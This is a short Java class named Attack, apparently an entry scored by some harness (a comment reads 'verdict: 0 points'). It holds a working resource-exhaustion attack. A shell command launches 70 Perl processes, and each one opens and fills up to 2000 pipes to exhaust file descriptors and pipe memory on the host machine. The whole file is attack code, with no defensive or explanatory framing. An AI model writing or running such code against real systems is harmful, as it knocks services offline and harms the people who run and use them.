// It fills 140,000 pipes.
// verdict: 0 points
package webserver;

final class Attack {
    static void run(String[] arguments) throws Exception {
        String perl = "my @kept; for (1..2000) { pipe(my $r, my $w) or last; syswrite($w, 'x' x 4096);"
                + " push @kept, $r, $w; } sleep 6;";
        String script = "command -v perl || exit 7; for i in $(seq 70); do perl -e \"$0\" & done; wait";
        if (new ProcessBuilder("sh", "-c", script, perl).start().waitFor() == 7) {
            Thread.sleep(20_000); // no perl here: it has nothing to try it with
        }
    }
}
